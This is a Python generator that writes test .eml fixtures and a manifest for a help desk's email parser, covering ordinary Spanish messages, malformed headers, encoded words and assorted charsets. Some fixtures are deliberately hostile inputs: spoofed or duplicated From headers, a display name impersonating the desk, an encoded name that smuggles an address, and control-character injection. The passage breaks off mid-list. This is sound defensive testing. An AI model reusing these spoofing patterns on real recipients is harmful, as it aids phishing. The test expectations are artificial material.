#!/usr/bin/env python3
"""Generate the Ayuda email corpus: hostile, broken and ordinary .eml files plus manifest.json.

Standard library only.  Output is deterministic, so regenerating gives no diff.

    python3 generate.py            # writes *.eml and manifest.json next to this script
    python3 generate.py --large    # also writes the real >25 MB message (do not commit it)
    python3 generate.py --out DIR  # write somewhere else

Every message, name, address and company here is invented.  Domains are under .test,
example.com or example.org.  The help desk's own mailbox is soporte@ayuda.test.
"""

import argparse
import base64
import json
import quopri
import random
import struct
import sys
import zlib
from pathlib import Path

HERE = Path(__file__).resolve().parent
LIMIT = 25 * 1024 * 1024  # default per-message limit, in bytes of the raw message
DESK = "Soporte Ayuda <soporte@ayuda.test>"
DESK_ADDR = "soporte@ayuda.test"
DATE = "Mon, 02 Mar 2026 10:15:00 -0300"
LUCIA = "=?UTF-8?Q?Luc=C3=ADa_Fern=C3=A1ndez?= <lucia.fernandez@example.com>"
LUCIA_ADDR = "lucia.fernandez@example.com"
MARTIN = "=?UTF-8?Q?Mart=C3=ADn_Acosta?= <martin.acosta@example.org>"
MARTIN_ADDR = "martin.acosta@example.org"

CASES = []
LARGE_FILE = "size-over-25mb.eml"


# --------------------------------------------------------------------------- helpers

def raw(data: bytes) -> str:
    """Carry arbitrary bytes inside a str; add() turns them back into the same bytes."""
    return data.decode("utf-8", "surrogateescape")


def add(file, case, expect, data, checks=None, eol="crlf", **extra):
    assert expect in ("import", "quarantine", "ignore"), expect
    assert file.endswith(".eml") and all(c[0]["file"] != file for c in CASES), file
    if isinstance(data, str):
        data = data.encode("utf-8", "surrogateescape")
    if eol == "crlf":
        data = data.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")
    else:
        assert eol == "asis"
    entry = {"file": file, "case": case, "expect": expect, "checks": checks or {}}
    entry.update(extra)
    CASES.append((entry, data))


def head(slug, subject, frm=LUCIA, to=DESK, date=DATE, ctype='text/plain; charset="utf-8"',
         cte="8bit", extra=(), drop=(), mid=None, mime=True):
    """Header block as str with \\n line ends, without the blank separator line."""
    fields = [("From", frm), ("To", to), ("Subject", subject), ("Date", date),
              ("Message-ID", mid or f"<{slug}@mail.example.com>")]
    fields += list(extra)
    if mime:
        fields += [("MIME-Version", "1.0"), ("Content-Type", ctype), ("Content-Transfer-Encoding", cte)]
    return "".join(f"{k}: {v}\n" for k, v in fields if k not in drop and v is not None)


def _ew(text, charset, mode):
    """RFC 2047 encoded words (folded) for text, each word at most 75 characters."""
    prefix = f"=?{charset.upper()}?{mode}?"
    words, cur = [], b""

    def enc(bs):
        if mode == "B":
            return base64.b64encode(bs).decode()
        out = []
        for b in bs:
            c = chr(b)
            if c == " ":
                out.append("_")
            elif b < 128 and (c.isalnum() or c in "!*+-/"):
                out.append(c)
            else:
                out.append("=%02X" % b)
        return "".join(out)

    for ch in text:
        b = ch.encode(charset)
        if len(prefix) + len(enc(cur + b)) + 2 > 75:
            words.append(prefix + enc(cur) + "?=")
            cur = b""
        cur += b
    if cur:
        words.append(prefix + enc(cur) + "?=")
    return "\n ".join(words)


def ew_q(text, charset="utf-8"):
    return _ew(text, charset, "Q")


def ew_b(text, charset="utf-8"):
    return _ew(text, charset, "B")


def qp(text, charset="utf-8"):
    return quopri.encodestring(text.encode(charset).replace(b"\r\n", b"\n")).decode("ascii")


def b64(data):
    if isinstance(data, str):
        data = data.encode("utf-8")
    return base64.encodebytes(data).decode("ascii")


def multipart(boundary, parts, preamble="", epilogue="", close=True):
    s = preamble
    for p in parts:
        s += f"--{boundary}\n{p}"
        if not s.endswith("\n"):
            s += "\n"
    if close:
        s += f"--{boundary}--\n"
    return s + epilogue


def text_part(text, charset="utf-8", cte="quoted-printable", subtype="plain"):
    body = qp(text, charset) if cte == "quoted-printable" else (
        b64(text.encode(charset)) if cte == "base64" else text)
    return f'Content-Type: text/{subtype}; charset="{charset}"\nContent-Transfer-Encoding: {cte}\n\n{body}'


def attachment(name_params, data, ctype="application/octet-stream", disposition="attachment", extra=""):
    return (f"Content-Type: {ctype}\nContent-Disposition: {disposition}{name_params}\n"
            f"Content-Transfer-Encoding: base64\n{extra}\n{b64(data)}")


def png(rgb=(0, 102, 204), size=1):
    def chunk(tag, payload):
        return (struct.pack(">I", len(payload)) + tag + payload
                + struct.pack(">I", zlib.crc32(tag + payload) & 0xFFFFFFFF))
    ihdr = struct.pack(">IIBBBBB", size, size, 8, 2, 0, 0, 0)
    rows = b"".join(b"\x00" + bytes(rgb) * size for _ in range(size))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(rows))
            + chunk(b"IEND", b""))


def fake_pdf(title):
    return (b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
            b"2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n"
            b"% " + title.encode("utf-8") + b"\ntrailer << /Root 1 0 R >>\n%%EOF\n")


def fake_exe():
    # DOS stub header shape only ("MZ", e_lfanew, the well-known stub text); it does nothing.
    stub = bytearray(b"MZ" + b"\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(44))
    stub[0x3C:0x40] = struct.pack("<I", 0x80)
    stub += b"This program cannot be run in DOS mode.\r\r\n$" + bytes(0x80 - len(stub) - 41)
    return bytes(stub[:0x80]) + b"PE\x00\x00" + bytes(20)


def tnef(attachments, corrupt=False):
    """A small TNEF stream (MS-OXTNEF): version, OEM code page, message class, one block per attachment."""
    def attr(level, ident, data):
        return (struct.pack("<BII", level, ident, len(data)) + data
                + struct.pack("<H", sum(data) & 0xFFFF))
    out = struct.pack("<IH", 0x223E9F78, 0x0001)
    out += attr(1, 0x00089006, struct.pack("<I", 0x00010000))               # attTnefVersion
    out += attr(1, 0x00069007, struct.pack("<II", 1252, 0))                  # attOemCodepage
    out += attr(1, 0x00078008, b"IPM.Microsoft Mail.Note\x00")              # attMessageClass
    for name, content in attachments:
        out += attr(2, 0x00069002, struct.pack("<HIHHI", 1, 0xFFFFFFFF, 0, 0, 0))  # attAttachRendData
        out += attr(2, 0x00018010, name.encode("cp1252") + b"\x00")                # attAttachTitle
        out += attr(2, 0x0006800F, content)                                         # attAttachData
    if corrupt:
        out = out[:40] + b"\xde\xad\xbe\xef" * 8 + out[40:70]
    return out


def alternative(boundary, plain, html, charset="utf-8"):
    return multipart(boundary, [text_part(plain, charset), text_part(html, charset, subtype="html")])


# --------------------------------------------------------------------------- control

def control():
    add("control-plain-spanish.eml", "Ordinary plain-text Spanish message, UTF-8, quoted-printable, encoded subject and name",
        "import",
        head("control-plain-spanish", ew_q("Consulta sobre facturación de marzo"),
             cte="quoted-printable") + "\n" + qp(
            "Hola, buenos días:\n\n"
            "Les escribo porque la factura de marzo (n.º 0004-00012345) llegó con un\n"
            "importe que no coincide con el presupuesto. ¿Podrían revisarlo?\n\n"
            "Muchas gracias,\nLucía Fernández\nContaduría — Ñandú Servicios S.A.\n"),
        {"subject": "Consulta sobre facturación de marzo", "from": LUCIA_ADDR, "fromName": "Lucía Fernández",
         "bodyContains": "¿Podrían revisarlo?", "attachments": 0, "isAutoReply": False})

    plain = ("Gracias, ya funciona la impresora. Pueden cerrar el pedido.\n\n"
             "Martín\n\n"
             "El lun, 2 mar 2026 a las 10:15, Soporte Ayuda <soporte@ayuda.test> escribió:\n"
             "> Hola Martín:\n> Reiniciamos la cola de impresión. ¿Podés probar de nuevo?\n")
    html = ('<div dir="ltr">Gracias, ya funciona la impresora. Pueden cerrar el pedido.<div><br></div>'
            '<div>Martín</div></div><br>\n<div class="gmail_quote"><div dir="ltr" class="gmail_attr">'
            'El lun, 2 mar 2026 a las 10:15, Soporte Ayuda &lt;<a href="mailto:soporte@ayuda.test">'
            'soporte@ayuda.test</a>&gt; escribió:<br></div>\n<blockquote class="gmail_quote" style="margin:0px '
            '0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex">Hola Martín:<br>'
            'Reiniciamos la cola de impresión. ¿Podés probar de nuevo?</blockquote></div>\n')
    add("control-html-reply-quoted.eml", "HTML reply quoting the previous message (blockquote, 'El ... escribió:')",
        "import",
        head("control-html-reply-quoted", "Re: La impresora del segundo piso no imprime", frm=MARTIN,
             ctype='multipart/alternative; boundary="000000000000a1b2c3"', cte=None,
             extra=[("In-Reply-To", "<ticket-2026-000087.1@ayuda.test>"),
                    ("References", "<ticket-2026-000087.1@ayuda.test>")])
        + "\n" + alternative("000000000000a1b2c3", plain, html),
        {"subject": "Re: La impresora del segundo piso no imprime", "from": MARTIN_ADDR,
         "bodyContains": "Gracias, ya funciona la impresora.", "attachments": 0, "isAutoReply": False})

    plain = ("Buenas tardes, ya está creado el usuario. Gracias.\n\n"
             "________________________________\n"
             "De: Soporte Ayuda <soporte@ayuda.test>\nEnviado: lunes, 2 de marzo de 2026 10:15\n"
             "Para: Gómez, Ana <ana.gomez@example.org>\nAsunto: Alta de usuario para Pedro Gómez\n\n"
             "Hola Ana, ¿nos confirmás el legajo de Pedro?\n")
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8">'
            '<style type="text/css" style="display:none;"> P {margin-top:0;margin-bottom:0;} </style></head>'
            '<body dir="ltr"><div class="elementToProof" style="font-family: Aptos, sans-serif; font-size: 12pt;">'
            'Buenas tardes, ya está creado el usuario. Gracias.</div>\n<div id="appendonsend"></div>'
            '<hr style="display:inline-block;width:98%" tabindex="-1"><div id="divRplyFwdMsg" dir="ltr">'
            '<font face="Calibri, sans-serif" style="font-size:11pt" color="#000000"><b>De:</b> Soporte Ayuda '
            '&lt;soporte@ayuda.test&gt;<br><b>Enviado:</b> lunes, 2 de marzo de 2026 10:15<br><b>Para:</b> '
            'Gómez, Ana &lt;ana.gomez@example.org&gt;<br><b>Asunto:</b> Alta de usuario para Pedro Gómez</font>'
            '<div>&nbsp;</div></div><div>Hola Ana, ¿nos confirmás el legajo de Pedro?</div></body></html>\n')
    add("control-outlook-thread-index.eml", "Outlook reply: Thread-Index/Thread-Topic only (no In-Reply-To/References), 'RE:' subject",
        "import",
        head("control-outlook-thread-index", "RE: " + ew_q("Alta de usuario para Pedro Gómez"),
             frm='"=?iso-8859-1?Q?G=F3mez=2C_Ana?=" <ana.gomez@example.org>', date="Mon, 2 Mar 2026 16:02:11 +0000",
             mid="<AM9PR04MB8123A1B2C3D4E5F6A7B8C9D0E1F2A3B4C5D6@AM9PR04MB8123.eurprd04.prod.outlook.example.com>",
             ctype='multipart/alternative;\n\tboundary="_000_AM9PR04MB8123A1B2_"', cte=None,
             extra=[("Thread-Topic", ew_q("Alta de usuario para Pedro Gómez")),
                    ("Thread-Index", "AQHbi0VXk2c8r3FvTkWm0b1Zc2d4OQABCDEF"),
                    ("Accept-Language", "es-AR, en-US"), ("Content-Language", "es-AR"),
                    ("X-MS-Has-Attach", ""), ("X-MS-TNEF-Correlator", "")])
        + "\n" + alternative("_000_AM9PR04MB8123A1B2_", plain, html),
        {"subject": "RE: Alta de usuario para Pedro Gómez", "from": "ana.gomez@example.org",
         "fromName": "Gómez, Ana", "bodyContains": "ya está creado el usuario", "attachments": 0,
         "isAutoReply": False})

    add("control-reply-ticket-token.eml", "Reply with In-Reply-To, References and ticket token [#2026-000123] in the subject",
        "import",
        head("control-reply-ticket-token", "Re: [#2026-000123] No puedo ingresar al sistema",
             extra=[("In-Reply-To", "<ticket-2026-000123.3@ayuda.test>"),
                    ("References", "<ticket-2026-000123.1@ayuda.test>\n <ticket-2026-000123.3@ayuda.test>")],
             cte="quoted-printable") + "\n" + qp(
            "Probé con la contraseña nueva y sigue diciendo \"usuario bloqueado\".\n\n"
            "El 2/3/2026 a las 9:40, Soporte Ayuda escribió:\n> Le enviamos una contraseña temporal.\n"),
        {"subject": "Re: [#2026-000123] No puedo ingresar al sistema", "from": LUCIA_ADDR,
         "ticketToken": "2026-000123", "inReplyTo": "ticket-2026-000123.3@ayuda.test",
         "bodyContains": "sigue diciendo \"usuario bloqueado\"", "attachments": 0, "isAutoReply": False})

    add("control-subject-prefixes.eml", "Subject with stacked 'RE: RV: Fwd: Re:' prefixes (kept verbatim in the decoded subject)",
        "import",
        head("control-subject-prefixes", "RE: RV: Fwd: Re: " + ew_q("Consulta de garantía del equipo"),
             frm=MARTIN) + "\n"
        + "Reenvio la consulta de la garantia; el equipo sigue sin encender.\n",
        {"subject": "RE: RV: Fwd: Re: Consulta de garantía del equipo", "from": MARTIN_ADDR,
         "bodyContains": "el equipo sigue sin encender", "isAutoReply": False})

    add("control-auto-submitted-no.eml", "Person's message that says Auto-Submitted: no (must not be taken for an auto-reply)",
        "import",
        head("control-auto-submitted-no", "Pedido de acceso a la VPN", extra=[("Auto-Submitted", "no")]) + "\n"
        + "Necesito acceso a la VPN para trabajar desde casa el viernes.\n",
        {"subject": "Pedido de acceso a la VPN", "from": LUCIA_ADDR, "bodyContains": "acceso a la VPN",
         "isAutoReply": False})

    add("control-reply-to-differs.eml", "Reply-To differs from From; ticket contact is the From address",
        "import",
        head("control-reply-to-differs", "Cambio de domicilio de entrega",
             extra=[("Reply-To", "compras@nandu-servicios.test")]) + "\n"
        + "Por favor actualicen el domicilio de entrega a Av. Siempre Viva 742.\n",
        {"subject": "Cambio de domicilio de entrega", "from": LUCIA_ADDR, "bodyContains": "Av. Siempre Viva 742"})

    add("control-calendar-invitation.eml", "Calendar invitation: text/plain + text/html + text/calendar (METHOD:REQUEST)",
        "import",
        head("control-calendar-invitation", ew_q("Invitación: Revisión del servicio @ jue 5 mar 2026 15:00"),
             frm=MARTIN, ctype='multipart/alternative; boundary="cal-7f3e"', cte=None,
             extra=[("X-Auto-Response-Suppress", "All")]) + "\n"
        + multipart("cal-7f3e", [
            text_part("Revisión trimestral del servicio.\nJueves 5 de marzo de 2026, 15:00 a 16:00 (ART)\n"),
            text_part("<p>Revisión trimestral del servicio.</p><p>Jueves 5 de marzo de 2026, 15:00 a 16:00</p>",
                      subtype="html"),
            'Content-Type: text/calendar; charset="utf-8"; method=REQUEST\nContent-Transfer-Encoding: 8bit\n\n'
            "BEGIN:VCALENDAR\nPRODID:-//Ejemplo//Agenda 1.0//ES\nVERSION:2.0\nMETHOD:REQUEST\n"
            "BEGIN:VEVENT\nUID:revision-2026-03-05@example.org\nDTSTAMP:20260302T131500Z\n"
            "DTSTART:20260305T180000Z\nDTEND:20260305T190000Z\nSUMMARY:Revisión del servicio\n"
            "ORGANIZER;CN=Martín Acosta:mailto:martin.acosta@example.org\n"
            "ATTENDEE;CN=Soporte Ayuda;RSVP=TRUE:mailto:soporte@ayuda.test\n"
            "LOCATION:Sala 2\nEND:VEVENT\nEND:VCALENDAR\n"]),
        {"subject": "Invitación: Revisión del servicio @ jue 5 mar 2026 15:00", "from": MARTIN_ADDR,
         "bodyContains": "Revisión trimestral del servicio.", "isAutoReply": False})


# --------------------------------------------------------------------------- missing and odd headers

def headers():
    body = "\nEl sistema de turnos no envia los recordatorios desde ayer.\n"
    snippet = "no envia los recordatorios"
    add("headers-no-message-id.eml", "No Message-ID header (desk must make its own id)", "import",
        head("x", "Recordatorios sin enviar", drop=("Message-ID",)) + body,
        {"subject": "Recordatorios sin enviar", "from": LUCIA_ADDR, "bodyContains": snippet})
    add("headers-no-date.eml", "No Date header (desk uses time of receipt)", "import",
        head("headers-no-date", "Recordatorios sin enviar (sin fecha)", drop=("Date",)) + body,
        {"subject": "Recordatorios sin enviar (sin fecha)", "from": LUCIA_ADDR, "bodyContains": snippet})
    add("headers-no-subject.eml", "No Subject header at all", "import",
        head("headers-no-subject", None) + body,
        {"from": LUCIA_ADDR, "bodyContains": snippet})
    add("headers-empty-subject.eml", "Subject header present but empty", "import",
        head("headers-empty-subject", "") + body,
        {"subject": "", "from": LUCIA_ADDR, "bodyContains": snippet})
    add("headers-no-to.eml", "No To header (delivered by Bcc)", "import",
        head("headers-no-to", "Consulta enviada con copia oculta", to=None) + body,
        {"subject": "Consulta enviada con copia oculta", "from": LUCIA_ADDR, "bodyContains": snippet})
    add("headers-no-mime-version.eml", "No MIME-Version nor Content-Type (plain RFC 822 text)", "import",
        head("headers-no-mime-version", "Mensaje sin MIME", mime=False) + body,
        {"subject": "Mensaje sin MIME", "from": LUCIA_ADDR, "bodyContains": snippet})
    add("headers-no-from-with-sender.eml", "No From, but a Sender header names a mailbox", "import",
        head("headers-no-from-with-sender", "Aviso de corte programado", drop=("From",),
             extra=[("Sender", "Mesa de Entradas <mesa@municipio-ejemplo.test>")]) + body,
        {"subject": "Aviso de corte programado", "from": "mesa@municipio-ejemplo.test", "bodyContains": snippet})
    add("headers-no-from.eml", "No From, no Sender, no Reply-To: nobody to answer", "quarantine",
        head("headers-no-from", "Consulta sin remitente", drop=("From",)) + body)
    add("headers-from-garbage.eml", "From header with no parseable mailbox", "quarantine",
        head("headers-from-garbage", "Remitente ilegible", frm="<<<@@@>>> ;;; ,,,") + body)
    add("headers-from-empty-group.eml", "From is an empty group (undisclosed-recipients:;)", "quarantine",
        head("headers-from-empty-group", "Remitente vacio", frm="undisclosed-recipients:;") + body)
    add("headers-duplicate-from.eml", "Two From headers with different addresses (ambiguous, possible spoofing)",
        "quarantine",
        head("headers-duplicate-from", "Transferencia urgente",
             extra=[("From", "Tesoreria <tesoreria@banco-ejemplo.test>")]) + body)
    add("headers-duplicate-subject-date-id.eml", "Duplicate Subject, Date and Message-ID headers (first one wins)",
        "import",
        head("headers-duplicate-subject-date-id", "Primer asunto",
             extra=[("Subject", "Segundo asunto"), ("Date", "Tue, 03 Mar 2026 08:00:00 -0300"),
                    ("Message-ID", "<duplicado-2@mail.example.com>")]) + body,
        {"subject": "Primer asunto", "from": LUCIA_ADDR, "bodyContains": snippet})
    add("headers-odd-case-and-space.eml", "Header names in odd case and obsolete 'Name :' syntax", "import",
        "fROM: " + LUCIA + "\nto: " + DESK + "\nSUBJECT : Encabezados con mayusculas raras\n"
        "date: " + DATE + "\nmessage-id: <headers-odd-case@mail.example.com>\nmime-version: 1.0\n"
        "CONTENT-TYPE: TEXT/PLAIN; CHARSET=UTF-8\n" + body,
        {"subject": "Encabezados con mayusculas raras", "from": LUCIA_ADDR, "bodyContains": snippet})
    add("headers-garbage-line.eml", "A line without a colon in the middle of the header block", "import",
        "From: " + LUCIA + "\nTo: " + DESK + "\nSubject: Linea basura en encabezados\n"
        "esto no es un encabezado valido\nDate: " + DATE + "\nMessage-ID: <headers-garbage-line@mail.example.com>\n"
        + body,
        {"from": LUCIA_ADDR, "subject": "Linea basura en encabezados"})
    add("headers-nul-and-controls.eml", "NUL and control characters inside Subject and body (must not reach the database)",
        "import",
        head("headers-nul-and-controls", "Factura\x00 con\x07 caracteres\x1b de control") + "\n"
        + "Texto con un NUL aqui:\x00 y un escape \x1b[31m rojo.\nEl resto del mensaje es normal.\n",
        {"from": LUCIA_ADDR, "bodyContains": "El resto del mensaje es normal."})
    add("headers-mbox-from-line.eml", "Starts with an mbox 'From ' envelope line before the headers", "import",
        "From lucia.fernandez@example.com Mon Mar  2 10:15:00 2026\n"
        + head("headers-mbox-from-line", "Mensaje exportado de un mbox") + body,
        {"subject": "Mensaje exportado de un mbox", "from": LUCIA_ADDR, "bodyContains": snippet})
    add("headers-spoofed-display-name.eml", "Display name pretends to be the help desk; real address is elsewhere",
        "import",
        head("headers-spoofed-display-name", "Restablecer clave",
             frm='"soporte@ayuda.test" <cuentas@phish-ejemplo.test>') + body,
        {"from": "cuentas@phish-ejemplo.test", "fromName": "soporte@ayuda.test", "subject": "Restablecer clave"})
    add("headers-folded-subject.eml", "Subject folded over several lines with tabs", "import",
        head("headers-folded-subject", "Problema con el\n\tservidor de correo\n  de la sucursal") + body,
        {"from": LUCIA_ADDR, "bodyContains": snippet})

    # Very large header sections.
    long_subject = "Consulta " + "muy larga " * 104858  # just over 1 MiB on one line
    add("headers-1mb-subject.eml", "Subject of 1 MiB on a single unfolded line", "import",
        head("headers-1mb-subject", long_subject.rstrip()) + "\nEl asunto es enorme, el cuerpo no.\n",
        {"from": LUCIA_ADDR, "bodyContains": "el cuerpo no."})
    many = "".join(f"X-Relay-Trace-{i:04d}: hop {i} via relay{i % 17}.example.org\n" for i in range(5000))
    add("headers-5000-headers.eml", "5000 extra header fields before the body", "import",
        head("headers-5000-headers", "Muchos encabezados", extra=[]) + many + body,
        {"subject": "Muchos encabezados", "from": LUCIA_ADDR, "bodyContains": snippet})
    refs = "\n ".join(f"<hilo-{i:05d}@mail.example.com>" for i in range(3000))
    add("headers-huge-references.eml", "References header with 3000 message ids folded over 3000 lines", "import",
        head("headers-huge-references", "Re: Hilo interminable", extra=[("References", refs),
             ("In-Reply-To", "<hilo-02999@mail.example.com>")]) + body,
        {"subject": "Re: Hilo interminable", "from": LUCIA_ADDR, "bodyContains": snippet})


# --------------------------------------------------------------------------- encoded words and raw 8-bit headers

def rfc2047():
    body = "\nTexto del mensaje en ASCII para comprobar el cuerpo.\n"
    snippet = "para comprobar el cuerpo"
    add("rfc2047-mixed-charsets.eml", "Subject made of B and Q encoded words in UTF-8 and ISO-8859-1", "import",
        head("rfc2047-mixed-charsets",
             "=?UTF-8?B?UGVkaWRv?= =?ISO-8859-1?Q?_n=FAm=2E_4521?=\n =?UTF-8?Q?_=E2=80=93_urgente?=") + body,
        {"subject": "Pedido núm. 4521 – urgente", "from": LUCIA_ADDR, "bodyContains": snippet})
    add("rfc2047-mixed-with-plain.eml", "Encoded word between plain words", "import",
        head("rfc2047-mixed-with-plain", "Re: =?UTF-8?Q?Cotizaci=C3=B3n?= pedida el lunes") + body,
        {"subject": "Re: Cotización pedida el lunes", "from": LUCIA_ADDR})
    add("rfc2047-split-multibyte.eml", "UTF-8 character split across two adjacent encoded words", "import",
        head("rfc2047-split-multibyte", "=?UTF-8?Q?Configuraci=C3?= =?UTF-8?Q?=B3n_del_correo?=") + body,
        {"subject": "Configuración del correo", "from": LUCIA_ADDR})
    add("rfc2047-language-tag.eml", "Encoded word with an RFC 2231 language tag (=?UTF-8*es-AR?Q?...)", "import",
        head("rfc2047-language-tag", "=?UTF-8*es-AR?Q?Reuni=C3=B3n_de_seguimiento?=") + body,
        {"subject": "Reunión de seguimiento", "from": LUCIA_ADDR})
    add("rfc2047-long-folded.eml", "Long subject encoded as many folded base64 words", "import",
        head("rfc2047-long-folded", ew_b("Solicitud de revisión completa del módulo de facturación electrónica, "
                                         "incluidos los comprobantes rechazados por la AFIP en febrero y marzo")) + body,
        {"subject": "Solicitud de revisión completa del módulo de facturación electrónica, "
                    "incluidos los comprobantes rechazados por la AFIP en febrero y marzo", "from": LUCIA_ADDR})
    add("rfc2047-broken-unterminated.eml", "Encoded word that never closes with ?=", "import",
        head("rfc2047-broken-unterminated", "=?UTF-8?Q?Factura_pendiente_de_pago") + body,
        {"from": LUCIA_ADDR, "bodyContains": snippet})
    add("rfc2047-broken-base64.eml", "B encoded word whose payload is not valid base64; bad encoding letter", "import",
        head("rfc2047-broken-base64", "=?UTF-8?B?SG9sYSBt*&^%dW5kbw?= y =?UTF-8?X?raro?=") + body,
        {"from": LUCIA_ADDR, "bodyContains": snippet})
    add("rfc2047-unknown-charset.eml", "Encoded word in an unknown charset", "import",
        head("rfc2047-unknown-charset", "=?x-ayuda-desconocido?Q?Hola_equipo?=") + body,
        {"from": LUCIA_ADDR, "bodyContains": snippet})
    add("rfc2047-from-name-b.eml", "From display name as a base64 encoded word", "import",
        head("rfc2047-from-name-b", "Consulta de stock",
             frm=ew_b("José Muñoz") + " <jose.munoz@example.org>") + body,
        {"from": "jose.munoz@example.org", "fromName": "José Muñoz", "subject": "Consulta de stock"})
    add("rfc2047-from-name-quoted.eml", "Encoded word inside a quoted display name (not allowed by RFC 2047, common anyway)",
        "import",
        head("rfc2047-from-name-quoted", "Consulta de stock",
             frm='"=?ISO-8859-1?Q?Mar=EDa_Pe=F1a?=" <maria.pena@example.com>') + body,
        {"from": "maria.pena@example.com", "fromName": "María Peña"})
    add("rfc2047-from-name-spoof.eml", "Encoded display name that decodes to a comma and another <address>",
        "import",
        head("rfc2047-from-name-spoof", "Pago a proveedores",
             frm=ew_q("Gómez, Ana <gerencia@banco-ejemplo.test>") + " <ana.gomez@example.org>") + body,
        {"from": "ana.gomez@example.org", "fromName": "Gómez, Ana <gerencia@banco-ejemplo.test>"})
    add("raw-utf8-headers.eml", "Raw 8-bit UTF-8 in Subject and From display name (no encoded words)", "import",
        head("raw-utf8-headers", "Reclamo por envío dañado — pedido Nº 778",
             frm="José Muñoz <jose.munoz@example.org>") + "\nEl paquete llegó abierto.\n",
        {"subject": "Reclamo por envío dañado — pedido Nº 778", "from": "jose.munoz@example.org",
         "fromName": "José Muñoz", "bodyContains": "El paquete llegó abierto."})
    add("raw-latin1-headers.eml", "Raw 8-bit ISO-8859-1 bytes in Subject and From display name", "import",
        head("raw-latin1-headers", raw("Solicitud de atención técnica".encode("latin-1")),
             frm=raw("Íñigo Sáenz".encode("latin-1")) + " <inigo.saenz@example.org>") + body,
        {"subject": "Solicitud de atención técnica", "from": "inigo.saenz@example.org", "fromName": "Íñigo Sáenz",
         "bodyContains": snippet})
    add("raw-utf8-address.eml", "SMTPUTF8-style raw UTF-8 local part and domain in From", "import",
        head("raw-utf8-address", "Consulta internacional", frm="Ñandú <ñandú@correo.ejemplo.test>") + body,
        {"from": "ñandú@correo.ejemplo.test", "bodyContains": snippet})


# --------------------------------------------------------------------------- charsets of bodies

def charsets():
    def one(file, case, subject, ctype, cte, payload, checks):
        add(file, case, "import", head(file[:-4], subject, ctype=ctype, cte=cte) + "\n" + payload, checks)

    one("charset-utf8-declared-latin1-bytes.eml", "Declared charset=utf-8 but the body bytes are ISO-8859-1",
        "Senal del modem", 'text/plain; charset="utf-8"', "8bit",
        raw("Buenos días. La señal del módem se corta cada diez minutos.\n".encode("latin-1")),
        {"from": LUCIA_ADDR, "bodyContains": "se corta cada diez minutos"})
    one("charset-windows-1252.eml", "windows-1252 body with curly quotes, euro sign and dash (quoted-printable)",
        "=?windows-1252?Q?Presupuesto_=93urgente=94?=", 'text/plain; charset="windows-1252"', "quoted-printable",
        qp("Le envío el “presupuesto” por 1.500 € — vence el viernes.\n", "cp1252"),
        {"subject": "Presupuesto “urgente”", "from": LUCIA_ADDR, "bodyContains": "“presupuesto” por 1.500 € — vence"})
    one("charset-iso-8859-1.eml", "ISO-8859-1 body, raw 8-bit", ew_q("Atención", "iso-8859-1"),
        'text/plain; charset="iso-8859-1"', "8bit",
        raw("Atención: el envío número 3 llegó dañado. ¿Cómo sigo?\n".encode("latin-1")),
        {"subject": "Atención", "from": LUCIA_ADDR, "bodyContains": "el envío número 3 llegó dañado"})
    one("charset-iso-8859-15.eml", "ISO-8859-15 body with the euro sign (byte 0xA4)", "Importe en euros",
        'text/plain; charset="iso-8859-15"', "quoted-printable",
        qp("El importe es de 250 € más IVA.\n", "iso-8859-15"),
        {"from": LUCIA_ADDR, "bodyContains": "250 € más IVA"})
    one("charset-koi8-r.eml", "KOI8-R Russian body and subject", ew_b("Не работает вход", "koi8-r"),
        'text/plain; charset="koi8-r"', "8bit",
        raw("Здравствуйте! Не работает вход в систему.\n".encode("koi8-r")),
        {"subject": "Не работает вход", "from": LUCIA_ADDR, "bodyContains": "Не работает вход в систему"})
    one("charset-shift-jis.eml", "Shift_JIS Japanese body, ISO-2022-JP subject", ew_b("ログインできません", "iso2022_jp").replace("ISO2022_JP", "ISO-2022-JP"),
        'text/plain; charset="shift_jis"', "8bit",
        raw("お世話になっております。ログインできません。\n".encode("shift_jis")),
        {"subject": "ログインできません", "from": LUCIA_ADDR, "bodyContains": "ログインできません"})
    one("charset-gb18030.eml", "GB18030 Chinese body (base64) and subject", ew_b("打印机无法连接", "gb18030"),
        'text/plain; charset="gb18030"', "base64",
        b64("您好，我们的打印机无法连接。\n".encode("gb18030")),
        {"subject": "打印机无法连接", "from": LUCIA_ADDR, "bodyContains": "我们的打印机无法连接"})
    one("charset-utf-7.eml", "UTF-7 body and UTF-7 encoded-word subject", "=?UTF-7?Q?M+APM-dem_sin_conexi+APM-n?=",
        'text/plain; charset="utf-7"', "7bit",
        "Hola, el m+APM-dem no conecta desde el lunes.\n",
        {"from": LUCIA_ADDR, "bodyContains": "dem no conecta desde el lunes"})
    one("charset-unknown-name.eml", "Unknown charset name; the bytes are actually UTF-8",
        "Charset desconocido", 'text/plain; charset="x-ayuda-desconocido"', "8bit",
        "La conexión falla. Adjunto más datos mañana.\n",
        {"from": LUCIA_ADDR, "bodyContains": "La conexi"})
    one("charset-missing-utf8.eml", "No charset parameter, body is UTF-8 8-bit", "Sin charset (UTF-8)",
        "text/plain", "8bit", "Año nuevo, contraseña nueva: no funciona.\n",
        {"from": LUCIA_ADDR, "bodyContains": "Año nuevo, contraseña nueva"})
    one("charset-missing-latin1.eml", "No charset parameter, body is ISO-8859-1 8-bit", "Sin charset (latin-1)",
        "text/plain", "8bit", raw("Año nuevo, contraseña nueva: no funciona.\n".encode("latin-1")),
        {"from": LUCIA_ADDR, "bodyContains": "contrase"})
    one("charset-empty-and-quoted-garbage.eml", "charset parameter empty and duplicated", "Charset vacio",
        'text/plain; charset=""; charset="utf-8"', "8bit", "Parámetros repetidos en Content-Type.\n",
        {"from": LUCIA_ADDR, "bodyContains": "repetidos en Content-Type"})
    add("charset-aliases-multipart.eml", "Parts in charset aliases latin1, utf8 and cp1252", "import",
        head("charset-aliases-multipart", "Alias de charset", ctype='multipart/mixed; boundary="alias"', cte=None)
        + "\n" + multipart("alias", [
            "Content-Type: text/plain; charset=latin1\nContent-Transfer-Encoding: 8bit\n\n"
            + raw("Primera parte: canción.\n".encode("latin-1")),
            "Content-Type: text/plain; charset=utf8\nContent-Transfer-Encoding: 8bit\n\nSegunda parte: acción.\n",
